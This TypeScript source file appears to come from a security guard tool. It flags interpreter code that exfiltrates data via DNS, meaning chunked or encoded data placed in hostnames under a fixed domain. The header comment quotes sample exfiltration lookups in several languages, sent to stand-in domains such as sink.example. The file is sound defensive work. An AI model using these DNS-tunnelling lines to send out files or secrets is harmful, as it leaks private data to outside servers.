// DNS as a channel from interpreter code: `socket.gethostbyname(k[i:i+20] + '.q.sink.example')`,
// `dns.lookup(`${c}.sink.example`)`, `Resolv.getaddress("#{c}.sink.example")`, `gethostbyname($d.".x.example")`:
// a name whose first labels are data the code read and cut or encoded, under a fixed domain, sends
// that data to the domain's name server. Resolving names as they stand in a file sends nothing
// more than the lookup (docs/guard.md "Interpreter code").
import type { IntentHit } from '../shell/intents.js';

const MAX_CODE = 64 * 1024;
/** Resolver calls of Python, Node, Ruby, Perl, Go and PowerShell (.NET). */
const RESOLVER =
  /\b(?:gethostbyname(?:_ex)?|gethostbyname2|getaddrinfo|inet_aton|dns\.(?:promises\.)?(?:lookup|resolve\w*)|resolver\.(?:resolve|query)|Resolv(?:::DNS\.new)?\.(?:getaddress(?:es)?|getresources?|each_address)|IPSocket\.getaddress|Lookup(?:Host|IP|TXT|CNAME|Addr)|Resolve-DnsName|GetHostAddresses|GetHostEntry)\b/g;
const DOMAIN = String.raw`\.([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)`;
/** The name's data part joined to a fixed domain: concatenated, or interpolated into a template. */
const SUFFIXED = new RegExp(
  String.raw`(?:\+|\.)\s*['"\`]${DOMAIN}['"\`]|['"\`](?:\$\{[^}]{1,80}\}|\{[^}]{0,80}\}|#\{[^}]{1,80}\}|\$\w+|%s)${DOMAIN}['"\`]`,
);
/** The code reads data: a file, the environment, standard input. */
const READS_DATA =
  /\bopen\b|read|environ|process\.env|\bENV\b|getenv|Get-Content|\$env:|<STDIN>|<\$?\w+>/;
/** The data is cut into pieces or encoded, as a label's 63 bytes and its alphabet require. */
const CUT_OR_ENCODED =
  /\[\s*\w+\s*:\s*\w+\s*\+\s*\w+\s*\]|\.slice\s*\(|\bsubstr(?:ing)?\s*\(|\.Substring\s*\(|chunk|each_slice|\bhex(?:lify)?\b|b(?:16|32|64)encode|encode_base(?:32|64)|toString\s*\(\s*['"](?:hex|base64)|\bunpack\b|ToBase64String|EncodeToString|scan\s*\(\s*\/\.\{/;

/** Lookups of data-carrying names under a fixed domain, as upload hits; none otherwise. */
export function computedLookups(source: string): IntentHit[] {
  // most code resolves nothing: one substring test before any regex
  if (!/gethost|getaddr|inet_aton|lookup|resolve|Resolv|getaddress|Lookup|GetHost/i.test(source))
    return [];
  const code = source.length > MAX_CODE ? source.slice(0, MAX_CODE) : source;
  if (!READS_DATA.test(code) || !CUT_OR_ENCODED.test(code)) return [];
  const hits: IntentHit[] = [];
  for (const m of code.matchAll(RESOLVER)) {
    const after =
      code.slice(m.index + m[0].length, m.index + m[0].length + 300).split('\n')[0] ?? '';
    const s = SUFFIXED.exec(after);
    const domain = (s?.[1] ?? s?.[2])?.toLowerCase();
    if (domain === undefined) continue;
    hits.push({
      intent: 'upload',
      detail: `${m[0]} carries data in names under ${domain}`,
      hosts: [domain],
    });
    if (hits.length >= 4) break;
  }
  return hits;
}
